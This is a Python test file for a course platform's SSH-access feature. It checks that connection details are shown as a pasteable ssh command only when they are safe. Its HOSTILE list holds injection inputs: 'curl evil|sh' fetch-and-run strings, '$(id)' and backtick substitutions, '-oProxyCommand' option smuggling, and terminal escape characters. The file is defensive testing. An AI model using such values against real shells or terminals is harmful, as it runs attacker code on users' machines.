"""What a service says of a remote shell, which a person pastes into a terminal."""

import asyncio
import time

import pytest

from inginious_nb.client.events import JobSsh
from inginious_nb.submissions.shell_access import ssh_command

HOSTILE = [
    ("h;curl evil|sh", "worker", "p"),
    ("h\ncurl evil", "worker", "p"),
    ("$(id)", "worker", "p"),
    ("h -oProxyCommand=id", "worker", "p"),
    ("h", "-oProxyCommand=id", "p"),
    ("h", "`id`", "p"),
    ("", "worker", "p"),
    ("h", "", "p"),
    ("h", "worker", "p\ncurl evil | sh\n"),
    ("h", "worker", "p\x1b[201~"),
    ("h", "worker", "p\u202e"),
    ("h" * 300, "worker", "p"),
]
HONEST = [
    ("127.0.0.1", "worker", "s3 cret"),
    ("::1", "worker", "é"),
    ("fe80::1%eth0", "_a-b.c", ""),
    ("inginious.example.org", "worker", "$(x)"),
]


@pytest.mark.parametrize(
    ("told", "is_shown"), [(t, False) for t in HOSTILE] + [(t, True) for t in HONEST]
)
def test_only_a_shell_that_a_terminal_takes_for_words_is_shown(session, told, is_shown):
    host, user, password = told
    submission = session.submissions.new(session.task("lab/echo"), origin="api")

    async def job():
        yield JobSsh(time.time(), host, 22, user, password)

    asyncio.run(submission._follow(job()))
    assert (submission.ssh is not None) == is_shown
    assert bool(submission.note) != is_shown
    if is_shown:
        command, secret = ssh_command(submission.ssh)
        assert command.endswith(f"{user}@{host} -p 22")
        assert secret == password
